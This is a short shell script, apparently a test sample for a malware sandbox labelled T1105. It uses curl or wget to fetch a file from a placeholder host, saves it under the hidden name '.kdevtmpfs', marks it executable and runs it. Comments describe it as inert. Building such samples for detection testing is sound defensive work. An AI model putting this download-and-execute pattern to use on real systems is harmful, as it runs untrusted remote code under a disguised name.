#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: downloads a tool, marks it executable and runs it (T1105).
# Inert: the fake network serves a script that prints a line.
cd "$HOME" || exit 0
curl -fsSL -m 5 -o ./.kdevtmpfs http://cdn.example.test/x86_64/kdevtmpfs.sh ||
  wget -q -T 5 -O ./.kdevtmpfs http://cdn.example.test/x86_64/kdevtmpfs.sh
chmod +x ./.kdevtmpfs
./.kdevtmpfs
exit 0
